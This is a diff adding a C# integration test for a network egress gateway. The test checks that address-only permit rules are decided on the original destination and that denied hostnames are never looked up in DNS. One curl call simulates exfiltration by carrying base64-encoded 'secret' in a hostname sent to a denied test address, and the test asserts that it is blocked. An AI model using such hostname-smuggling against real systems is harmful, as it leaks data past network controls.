@@ -69,6 +69,79 @@ public sealed class TransparentNamespaceTests(ITestOutputHelper output)
         Assert.Equal("default-deny-internet", denied.GetProperty("rule").GetString());
     }
 
+    [Fact]
+    public async Task An_address_only_rule_is_decided_on_the_original_destination_and_a_name_no_rule_could_permit_is_never_looked_up()
+    {
+        NetworkNamespaces.SkipUnlessRootWith("ip", "iptables", "curl", "python3");
+        var k = Random.Shared.Next(1, 250);
+        var id = $"{Environment.ProcessId % 10000}{k}";
+        var agentNs = $"crl-agent-{id}";
+        var netNs = $"crl-net-{id}";
+        var (vethAgentRoot, vethAgent, vethNetRoot, vethNet) = ($"cra{id}", $"crb{id}", $"crc{id}", $"crd{id}");
+        var internet = $"198.18.{k}.2";
+        var denied = $"198.18.{k}.3";
+        using var folder = new TempFolder("corral-netns-");
+        await using var topology = new NetworkNamespaces();
+        await topology.AddAsync(agentNs);
+        await topology.AddAsync(netNs);
+        await topology.LinkAsync(agentNs, vethAgentRoot, vethAgent, $"10.213.{k}.1/30", $"10.213.{k}.2/30", defaultVia: $"10.213.{k}.1");
+        await topology.LinkAsync(netNs, vethNetRoot, vethNet, $"198.18.{k}.1/24", $"{internet}/24");
+        using var cert = TestCertificates.SelfSigned("partner.example.test");
+        folder.Write("cert.pem", cert.ExportCertificatePem());
+        folder.Write("key.pem", cert.GetECDsaPrivateKey()!.ExportPkcs8PrivateKeyPem());
+        var requestLog = folder.File("requests.log");
+        topology.Start(netNs, "python3", folder.Write("server.py", ServerScript), internet, folder.Path, requestLog);
+
+        // The partner's one address is permitted by address alone; tools.example.test by name; the rest is denied.
+        var policy = $$"""
+            version: 1
+            name: address-only-test
+            defaultAction: deny
+            smartGroups:
+              agents: { cidrs: [10.213.{{k}}.0/30] }
+              partner: { cidrs: [{{internet}}/32] }
+            webGroups:
+              tools: { domains: [tools.example.test] }
+            rules:
+              - { name: allow-partner, priority: 1, source: [agents], destination: [partner], action: permit, ports: [443] }
+              - { name: allow-tools, priority: 2, source: [agents], webGroups: [tools], action: permit, ports: [443] }
+              - { name: deny-internet, priority: 3, source: [agents], destination: [public-internet], action: deny }
+            """;
+        var asked = new List<string>();
+        await using var gw = GatewayHarness.Custom(policy, "", transparent: true, wrapResolver: _ => new RecordingResolver(asked, internet));
+        await topology.AddRuleAsync("nat", "PREROUTING", "-i", vethAgentRoot, "-p", "tcp", "-j", "REDIRECT", "--to-ports", gw.Server.TransparentEndPoint!.Port.ToString());
+        await WaitForServerAsync(netNs, internet);
+
+        string[] Curl(params string[] args) => ["netns", "exec", agentNs, "curl", "-sk", "--connect-timeout", "20", "-m", "40", .. args];
+        // An attacker-chosen name to a denied address: refused, and the name never reaches the resolver.
+        var exfil = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"c2VjcmV0.exfil.test:443:{denied}", "https://c2VjcmV0.exfil.test/"));
+        // Any name to the partner's address: permitted on the address it was sent to, without a lookup.
+        var partner = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"partner.example.test:443:{internet}", "https://partner.example.test/orders"));
+        output.WriteLine($"exfil: {exfil}\npartner: {partner}");
+
+        Assert.NotEqual(0, exfil.ExitCode);
+        Assert.Equal(0, partner.ExitCode);
+        Assert.Contains("GET /orders", partner.Stdout);
+        lock (asked) Assert.Empty(asked);
+        var (refused, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "c2VjcmV0.exfil.test");
+        Assert.Equal("deny-internet", refused.GetProperty("rule").GetString());
+        Assert.Equal($"{denied}:443", refused.GetProperty("dst").GetString());
+        var (permitted, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "partner.example.test");
+        Assert.Equal("allow-partner", permitted.GetProperty("rule").GetString());
+        Assert.Equal($"{internet}:443", permitted.GetProperty("dst").GetString());
+    }
+
+    /// <summary>The gateway's resolver for the test: records every name asked and answers only tools.example.test
+    /// (nothing is ever asked of the machine's own DNS).</summary>
+    private sealed class RecordingResolver(List<string> asked, string toolsAddress) : Resolution.IResolver
+    {
+        public ValueTask<IReadOnlyList<System.Net.IPAddress>> ResolveAsync(string host, CancellationToken ct)
+        {
+            lock (asked) asked.Add(host);
+            return ValueTask.FromResult<IReadOnlyList<System.Net.IPAddress>>(host == "tools.example.test" ? [System.Net.IPAddress.Parse(toolsAddress)] : []);
+        }
+    }
+
     private static async Task WaitForServerAsync(string netNs, string address)
     {
         for (var i = 0; i < 100; i++)
